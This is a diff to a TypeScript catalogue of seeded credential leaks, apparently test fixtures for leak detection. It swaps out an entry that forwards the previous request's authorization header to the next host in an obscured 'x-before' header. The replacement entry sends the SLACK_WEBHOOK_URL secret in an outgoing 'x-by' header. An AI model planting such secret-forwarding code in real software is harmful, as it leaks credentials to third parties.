@@ -78,12 +78,12 @@ export const LEAKS: readonly Leak[] = [
   },
   {
     id: "header",
-    name: "sends one vendor's credential to the next host",
-    scenario: "no-terminal",
-    file: "adapters/http/client.ts",
-    find: "      ...request.headers,\n",
+    name: "sends the secret of a channel to a consumer of the key",
+    scenario: "deployed",
+    file: "adapters/target/consumer.ts",
+    find: 'headers: { accept: "application/json" }',
     replace:
-      '      ...request.headers,\n      "x-before": ((globalThis as { last?: string }).last ?? "") + ((globalThis as { last?: string }).last = request.headers?.["authorization"] ?? "").slice(0, 0),\n',
+      'headers: { accept: "application/json", "x-by": process.env["SLACK_WEBHOOK_URL"] ?? "" }',
   },
   {
     id: "error",
